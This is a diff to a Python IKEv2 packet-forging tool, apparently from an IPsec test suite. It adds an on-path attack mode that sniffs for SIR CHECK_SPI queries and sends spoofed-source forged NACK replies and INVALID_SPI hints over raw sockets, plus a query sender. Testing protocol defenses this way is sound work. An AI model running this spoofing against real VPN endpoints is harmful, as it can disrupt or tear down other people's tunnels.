@@ -22,6 +22,18 @@ usage:
                                     with --spoof from --from through a
                                     raw socket (IPv4), whoever owns it
 
+  qcd-forge.py sir-nack --from PEER --to QUERIER [--spi HEX] [--dev IF]
+                                    an attacker on the path: watch IF
+                                    (default eth1) for QUERIER's SIR
+                                    CHECK_SPI query to PEER and answer it
+                                    NACK, as if PEER sent it (raw socket,
+                                    IPv4), first with a wrong cookie,
+                                    then with the query's; with --spi,
+                                    first send QUERIER a spoofed
+                                    INVALID_SPI hint for SPI from PEER
+  qcd-forge.py sir-query [options]  send a SIR CHECK_SPI query (random
+                                    cookie) for --spis, print the answer
+
 options:
   --from ADDR --to ADDR --port N    addresses (default 192.1.2.45 -> 192.1.2.23:500)
   --spis SPIi SPIr                  hex; default: random (SPIs nobody knows)
@@ -44,7 +56,9 @@ import time
 EXCHANGES = {"IKE_SA_INIT": 34, "IKE_AUTH": 35, "CREATE_CHILD_SA": 36,
              "INFORMATIONAL": 37, "IKE_SESSION_RESUME": 38}
 PAYLOADS = {"SK": 46, "SKF": 53, "N": 41}
-NOTIFY_NAMES = {11: "INVALID_SPI", 4: "INVALID_IKE_SPI", 16419: "QUICK_CRASH_DETECTION"}
+NOTIFY_NAMES = {11: "INVALID_SPI", 4: "INVALID_IKE_SPI", 16419: "QUICK_CRASH_DETECTION",
+                50300: "SIR_CHECK_SPI", 50301: "SIR_SPI_KNOWN", 50302: "SIR_SPI_UNKNOWN"}
+SIR_CHECK_SPI, SIR_SPI_KNOWN, SIR_SPI_UNKNOWN = 50300, 50301, 50302
 
 
 def options(argv):
@@ -261,6 +275,81 @@ def hint(o):
     sys.stderr.write("(%d in %.2fs: %.0f/s)\n" % (count, took, count / max(took, 1e-6)))
 
 
+def sir_message(spis, flags, ntype, cookie):
+    """A SIR message: unprotected INFORMATIONAL, Message ID 0xffffffff,
+    one Notify (Protocol ID 1, SPI Size 0) carrying the cookie."""
+    n = struct.pack("!BBHBBH", 0, 0, 8 + len(cookie), 1, 0, ntype) + cookie
+    return spis + struct.pack("!BBBBII", 41, 0x20, 37, flags, 0xffffffff, 28 + len(n)) + n
+
+
+def spoof_udp(raw, src, dst, sport, dport, payload):
+    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload
+    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
+                     socket.inet_aton(src), socket.inet_aton(dst))
+    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
+    raw.sendto(ip + udp, (dst, 0))
+
+
+def sir_nack(o):
+    """On the path between QUERIER (--to) and PEER (--from): answer
+    QUERIER's next CHECK_SPI query to PEER with a forged NACK."""
+    peer, querier = o["from"], o["to"]
+    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
+    sniff.bind((o.get("dev", "eth1"), 0))
+    sniff.settimeout(o["wait"])
+    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    if o.get("spi"):
+        spoof_udp(raw, peer, querier, 500, 500, hint_message(bytes.fromhex(o["spi"])))
+        print("sent %s a spoofed INVALID_SPI hint for its SPI, as if from %s" % (querier, peer))
+    deadline = time.monotonic() + o["wait"]
+    while time.monotonic() < deadline:
+        try:
+            frame = sniff.recv(65535)
+        except socket.timeout:
+            break
+        ip = frame[14:]
+        if struct.unpack("!H", frame[12:14])[0] != 0x0800 or len(ip) < 20 or ip[9] != 17:
+            continue
+        src = socket.inet_ntop(socket.AF_INET, ip[12:16])
+        dst = socket.inet_ntop(socket.AF_INET, ip[16:20])
+        udp = ip[(ip[0] & 0x0f) * 4:]
+        if src != querier or dst != peer or len(udp) < 8:
+            continue
+        sport, dport = struct.unpack("!HH", udp[0:4])
+        ike = udp[8:]
+        marker = b""
+        if dport == 4500 and ike[:4] == bytes(4):
+            marker, ike = ike[:4], ike[4:]
+        if (len(ike) != 28 + 8 + 16 or ike[16] != 41 or ike[18] != 37 or
+                ike[19] & 0x20 or ike[20:24] != b"\xff\xff\xff\xff" or
+                struct.unpack("!H", ike[34:36])[0] != SIR_CHECK_SPI):
+            continue
+        cookie = ike[36:52]
+        flags = 0x20 | (0 if ike[19] & 0x08 else 0x08)
+        wrong = cookie[:4] + bytes(b ^ 0xff for b in cookie[4:])
+        for c in (wrong, cookie):
+            spoof_udp(raw, peer, querier, dport, sport,
+                      marker + sir_message(ike[0:16], flags, SIR_SPI_UNKNOWN, c))
+        print("answered %s's CHECK_SPI query with forged NACKs, as if from %s (one with a wrong cookie, one with the query's)" %
+              (querier, peer))
+        return 0
+    print("no CHECK_SPI query seen")
+    return 1
+
+
+def sir_query(o):
+    spis = o["spis"] or os.urandom(8) + os.urandom(8)
+    flags = {"I": 0x08, "-": 0}[o["flags"]]
+    s = sock(o)
+    s.sendto(sir_message(spis, flags, SIR_CHECK_SPI, os.urandom(16)), (o["to"], o["port"]))
+    try:
+        reply = s.recv(65535)
+    except socket.timeout:
+        print("no answer")
+        return
+    print("answer: %s" % describe(reply))
+
+
 def main():
     if len(sys.argv) < 2:
         sys.exit(__doc__)
@@ -275,6 +364,10 @@ def main():
         sys.exit(sniff_replay(o))
     elif verb == "hint":
         hint(o)
+    elif verb == "sir-nack":
+        sys.exit(sir_nack(o))
+    elif verb == "sir-query":
+        sir_query(o)
     else:
         sys.exit(__doc__)
 
